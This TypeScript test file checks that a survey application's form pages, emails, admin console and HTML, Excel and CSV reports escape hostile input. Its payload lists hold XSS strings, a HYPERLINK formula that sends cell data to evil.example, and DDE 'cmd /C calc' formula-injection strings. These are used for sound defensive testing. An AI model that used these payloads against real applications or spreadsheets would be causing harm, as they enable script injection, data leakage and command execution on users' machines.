// Hostile text from respondents and from the directory, followed through every place it is shown: the
// form (refused, conflicting, confirmed), the emails, the Secretariat's console and the compiled report.
// Markup must come out as text, and formulas as text in the Excel and CSV files.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parse as parseCsv } from "csv-parse/sync";
import ExcelJS from "exceljs";
import qs from "qs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import type { Campaign } from "../../functions/core/campaign.ts";
import type { Directory } from "../../functions/core/directory.ts";
import type { ReportRecord } from "../../functions/core/ports.ts";
import type { Questionnaire } from "../../functions/core/questionnaire/definition.ts";
import {
  defaultDirectoryPath,
  readQuestionnaireFile,
  defaultQuestionnairePath,
} from "../../functions/local/content.ts";
import { generateFormAnswers, seededRng } from "../../functions/local/demo-answers.ts";
import { adminClient, loadContent, type AdminClient } from "../../functions/local/demo.ts";
import { readOutbox, respondentLink } from "../../functions/local/outbox.ts";
import { consoleCookie, type ConsoleCookie } from "../support/console-cookie.ts";
import { movableClock, testStack } from "../support/local-stack.ts";

const XSS = [
  `<script>alert("xss")</script>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg onload=alert(2)>`,
  `<a href="javascript:alert(3)">click</a>`,
];
const FORMULAS = [
  `=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=1+1`,
];
const AWKWARD = [
  "مرحبا — שלום \u202eevil\u202c",
  "👩🏽‍⚖️ 🇧🇷 e\u0301",
  "x".repeat(3000),
  // Pasted from a word processor: characters XML 1.0 cannot carry would make the Excel file unreadable.
  "Párrafo\u000bcon salto manual\u0001 y un control",
];

/** What must never reach a page, a mail or a report as markup. */
const MARKUP = [/<script>alert/i, /<img src=x onerror/i, /<svg onload/i, /href="javascript:/i];

const expectOnlyText = (html: string, where: string) => {
  for (const danger of MARKUP) expect(html, `${where} carries live markup ${danger}`).not.toMatch(danger);
};
const expectShownEscaped = (html: string, where: string) => {
  expectOnlyText(html, where);
  expect(html, `${where} shows the hostile text as text`).toContain("&lt;script&gt;alert(");
};

const clock = movableClock(new Date("2027-06-01T12:00:00Z"));
let stack: Awaited<ReturnType<typeof testStack>>;
let api: AdminClient;
let campaign: Campaign;
let link: string;
let questionnaire: Questionnaire;
let consoleSession: ConsoleCookie;

const HOSTILE_NAME = `<script>alert("xss")</script> =HYPERLINK("https://evil.example","x")`;

beforeAll(async () => {
  stack = await testStack({ clock });
  api = adminClient(stack);
  await loadContent(api);
  // The directory is the Secretariat's own spreadsheet, imported: its names are untrusted text too.
  const directory = parseYaml(readFileSync(defaultDirectoryPath, "utf8")) as Directory;
  const arg = directory.members.find((m) => m.code === "ARG")!;
  arg.contacts[0]!.name = HOSTILE_NAME;
  arg.name = { ...arg.name, es: `"><img src=x onerror=alert(1)> Argentina`, en: `=1+1 Argentina` };
  await api("PUT", "/api/members", directory);
  questionnaire = readQuestionnaireFile(defaultQuestionnairePath);
  campaign = await api<Campaign>("POST", "/api/campaigns", {
    questionnaireId: questionnaire.id,
    closesAt: new Date(clock.now().getTime() + 20 * 864e5).toISOString(),
    invite: ["ARG"],
    meeting: `<script>alert("xss")</script> meeting`,
  });
  await api("POST", `/api/campaigns/${campaign.id}/send`);
  link = respondentLink(mailOf("invitation")[0]!)!;
  consoleSession = await consoleCookie(stack);
});
afterAll(() => stack.dispose());

const mailOf = (kind: string) =>
  readOutbox(stack.paths.outbox).filter(
    (m) => m.headers["x-consulta-campaign"] === campaign.id && m.headers["x-consulta-kind"] === kind,
  );

/** A complete, valid form in which every text field holds hostile text (within its length). */
const hostileForm = () => {
  const form = generateFormAnswers(questionnaire, seededRng(9), "es", { name: "x", email: "x@example.org" });
  const texts = [...XSS, ...FORMULAS, ...AWKWARD];
  let n = 0;
  const next = (max: number) => texts[n++ % texts.length]!.slice(0, max);
  // Only questions every government sees: an answer to a hidden one is dropped, and shown nowhere.
  for (const q of questionnaire.sections
    .filter((s) => !s.when)
    .flatMap((s) => s.questions.filter((x) => !x.when))) {
    // An address question refuses anything but an address: hostile text there never gets stored.
    if ((q.type === "short-text" && q.format !== "email") || q.type === "long-text")
      form[q.id] = next(q.maxLength);
    if (q.type === "group" && Array.isArray(form[q.id]))
      for (const row of form[q.id] as Record<string, unknown>[])
        for (const f of q.fields)
          if (f.type === "short-text" || f.type === "long-text") row[f.id] = next(f.maxLength);
  }
  return form;
};

const post = (fields: Record<string, unknown>) =>
  fetch(link, {
    method: "POST",
    redirect: "manual",
    headers: { "content-type": "application/x-www-form-urlencoded", accept: "text/html" },
    body: qs.stringify(fields),
  });

describe("hostile text in the respondent's form", () => {
  it("comes back escaped when the submission is refused, in conflict, and on the confirmation", async () => {
    const form = hostileForm();
    const required = questionnaire.sections.flatMap((s) => s.questions).find((q) => q.required)!;
    const refused = await post({ ...form, [required.id]: "", action: "submit", baseVersion: "0" });
    expect(refused.status).toBe(422);
    expectShownEscaped(await refused.text(), "the refused form");

    expect((await post({ ...form, action: "draft", baseVersion: "0" })).status).toBe(303);
    const conflict = await post({ ...form, "anything-else": XSS[1], action: "draft", baseVersion: "0" });
    expect(conflict.status).toBe(409);
    expectShownEscaped(await conflict.text(), "the conflict page");

    const submitted = await post({ ...form, action: "submit", baseVersion: "1" });
    expect(submitted.status).toBe(303);
    const confirmation = await fetch(new URL(submitted.headers.get("location")!, link));
    expectShownEscaped(await confirmation.text(), "the confirmation");
    const reopened = await fetch(link, { headers: { accept: "text/html" } });
    expectShownEscaped(await reopened.text(), "the form holding the saved answers");
  });
});

describe("hostile text in the emails", () => {
  it("is escaped in every HTML part and kept whole in the text part", () => {
    const mail = readOutbox(stack.paths.outbox).filter(
      (m) => m.headers["x-consulta-campaign"] === campaign.id,
    );
    expect(mail.map((m) => m.headers["x-consulta-kind"])).toEqual(
      expect.arrayContaining(["invitation", "receipt"]),
    );
    for (const m of mail) expectOnlyText(m.html, `the ${m.headers["x-consulta-kind"]} email`);
    const receipt = mailOf("receipt")[0]!;
    expectShownEscaped(receipt.html, "the receipt");
    expect(receipt.text).toContain(XSS[0]);
  });
});

describe("hostile text in the Secretariat's console", () => {
  it("is escaped on the campaign, directory and member pages", async () => {
    for (const path of [`/console/campaigns/${campaign.id}`, "/console/members", "/console/members/ARG"]) {
      const res = await fetch(`${stack.url}${path}`, {
        headers: { cookie: consoleSession.cookie, accept: "text/html" },
      });
      expect(res.status, path).toBe(200);
      expectShownEscaped(await res.text(), path);
    }
  });
});

describe("hostile text in the compiled report", () => {
  let files: { html: string; xlsx: string; csv: string };
  beforeAll(async () => {
    const report = await api<ReportRecord>("POST", `/api/campaigns/${campaign.id}/reports?lang=es`);
    const at = (key: string) => join(stack.paths.blobs, key);
    files = { html: at(report.files.html), xlsx: at(report.files.xlsx), csv: at(report.files.csv) };
  });

  it("HTML: shown as text", () => {
    const html = readFileSync(files.html, "utf8");
    expect(html).toContain("<html");
    expectShownEscaped(html, "the HTML report");
  });

  it("Excel: no cell is a formula, and each formula payload is there as text", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(files.xlsx);
    const formulas: string[] = [];
    const texts: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula)
            formulas.push(`${sheet.name}!${cell.address}: ${cell.formula}`);
          texts.push(cell.text);
        }),
      ),
    );
    expect(formulas).toEqual([]);
    for (const payload of FORMULAS)
      expect(
        texts.some((t) => t.includes(payload)),
        payload,
      ).toBe(true);
  });

  it("CSV: every text that a spreadsheet would read as a formula starts with an apostrophe", () => {
    const rows = parseCsv(readFileSync(files.csv), { bom: true, relax_column_count: true }) as string[][];
    const cells = rows.flat();
    const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
    expect(live).toEqual([]);
    // The payloads are there, as text: alone in a cell behind an apostrophe, or inside a longer text.
    for (const payload of FORMULAS)
      expect(
        cells.some((c) => c.includes(payload)),
        payload,
      ).toBe(true);
  });
});
